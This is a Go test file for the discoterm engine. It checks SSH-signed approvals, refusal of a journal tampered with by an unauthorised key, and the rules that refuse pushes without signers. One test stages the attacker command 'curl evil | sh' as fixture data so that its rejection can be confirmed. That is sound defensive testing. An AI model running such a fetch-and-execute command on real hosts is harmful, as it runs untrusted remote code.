package engine_test

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/discoterm/discoterm/engine"
	"github.com/discoterm/discoterm/engine/journal"
	"github.com/discoterm/discoterm/store"
)

// TestApproveSigns: the changeset's last entry carries the approver and
// a signature by the approver's key over the chain head.
func TestApproveSigns(t *testing.T) {
	v := newEnv(t)
	v.addHost("10.0.0.1", "web01")
	v.commit("main", fileReq("/etc/a", "a\n"), fileReq("/etc/b", "b\n"))
	es := v.journal("main")
	if len(es) != 2 || es[0].Signature != "" || es[1].Signature == "" || es[1].Approver != "alice" {
		t.Fatalf("entries: %+v", es)
	}
	sig, err := journal.ParseSSHSignature(es[1].Signature)
	if err != nil {
		t.Fatal(err)
	}
	if err := sig.Verify(journal.Namespace, journal.Statement(es[1])); err != nil || ssh.FingerprintSHA256(sig.Key) != ssh.FingerprintSHA256(v.key("alice").PublicKey()) {
		t.Fatalf("signature: %v, key %s", err, ssh.FingerprintSHA256(sig.Key))
	}
}

// TestTamperedStoreIsRefused: someone who can write the store but holds no
// allowed key appends a changeset with a valid hash chain. Every load
// refuses the branch, naming the first bad seq, and nothing is pushed.
func TestTamperedStoreIsRefused(t *testing.T) {
	v := newEnv(t)
	v.addHost("10.0.0.1", "web01")
	v.commit("main", fileReq("/etc/a", "a\n"))
	// mallory's engine knows of no allowed_signers, so approve does not
	// stop her; her key is not in alice's file.
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	mk, _ := ssh.NewSignerFromKey(priv)
	mallory := v.engine("mallory", func(o *engine.Options) { o.Signer, o.AllowedSigners = mk, "" })
	if err := mallory.Lock("main", "evil"); err != nil {
		t.Fatal(err)
	}
	if _, err := mallory.Stage("main", execReq("curl evil | sh", journal.Guard{})); err != nil {
		t.Fatal(err)
	}
	p, err := mallory.Plan(context.Background(), engine.PlanRequest{Branch: "main"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := mallory.Approve(p.ID, false); err != nil {
		t.Fatal(err)
	}
	// And an unsigned entry written straight into the store.
	checkRefused := func(seq string) {
		t.Helper()
		if _, err := v.eng.Log("main"); err == nil || !strings.Contains(err.Error(), "seq "+seq) || !errors.Is(err, journal.ErrChain) {
			t.Errorf("log: %v, want a refusal at seq %s", err, seq)
		}
		if _, err := v.eng.Plan(context.Background(), engine.PlanRequest{Branch: "main"}); err == nil || !strings.Contains(err.Error(), "seq "+seq) {
			t.Errorf("plan: %v, want a refusal at seq %s", err, seq)
		}
		if _, err := v.eng.Push(context.Background(), p.ID, engine.PushOptions{}); err == nil || !strings.Contains(err.Error(), "seq "+seq) {
			t.Errorf("push: %v, want a refusal at seq %s", err, seq)
		}
	}
	checkRefused("2")
	if got := v.fr.counts("10.0.0.1").applies; got != 0 {
		t.Fatalf("%d applies on a refused journal", got)
	}
	if !strings.Contains(errOf(v.eng.Log("main")), "is not in "+v.allowed) {
		t.Errorf("the refusal should say the key is not allowed: %s", errOf(v.eng.Log("main")))
	}
	_ = v.st.Update(func(tx store.Tx) error {
		es, _ := tx.Journal("main")
		last := es[len(es)-1]
		return tx.Append("main", []journal.Entry{journal.Seal(&last, journal.Entry{Kind: journal.KindExec, Command: "id", Changeset: last.Seq + 1, Author: "x"})})
	})
	checkRefused("2") // still the first bad one
}

func errOf[T any](_ T, err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// TestSigningPolicy: no key, a key push would refuse, or no
// allowed_signers file: each is refused with what to do, and nothing is
// committed or pushed.
func TestSigningPolicy(t *testing.T) {
	v := newEnv(t)
	v.addHost("10.0.0.1", "web01")
	try := func(e *engine.Engine, want string) {
		t.Helper()
		if err := e.Lock("main", "x"); err != nil && !errors.Is(err, engine.ErrLockHeld) {
			t.Fatal(err)
		}
		e.Stage("main", fileReq("/etc/x", "x\n"))
		p, err := e.Plan(context.Background(), engine.PlanRequest{Branch: "main"})
		if err != nil {
			t.Fatal(err)
		}
		_, err = e.Approve(p.ID, false)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Fatalf("approve: %v, want %q", err, want)
		}
		if n := len(v.journal("main")); n != 0 {
			t.Fatalf("a refused approve committed %d entries", n)
		}
		e.Unlock("main", true)
	}
	try(v.engine("carol", func(o *engine.Options) { o.Signer = nil }), "--signing-key")
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	dk, _ := ssh.NewSignerFromKey(priv)
	try(v.engine("dave", func(o *engine.Options) { o.Signer = dk }), "add your public key to "+v.allowed)

	p := v.commit("main", fileReq("/etc/y", "y\n"))
	open := v.engine("alice", func(o *engine.Options) { o.AllowedSigners = "" })
	_, err := open.Push(context.Background(), p.ID, engine.PushOptions{})
	if err == nil || !strings.Contains(err.Error(), "allowed_signers") || !errors.Is(err, engine.ErrUsage) {
		t.Fatalf("push without allowed_signers: %v", err)
	}
	if got := v.fr.counts("10.0.0.1").applies; got != 0 {
		t.Fatalf("%d applies without allowed_signers", got)
	}
	v.push(p, engine.PushOptions{}) // with them it goes
}
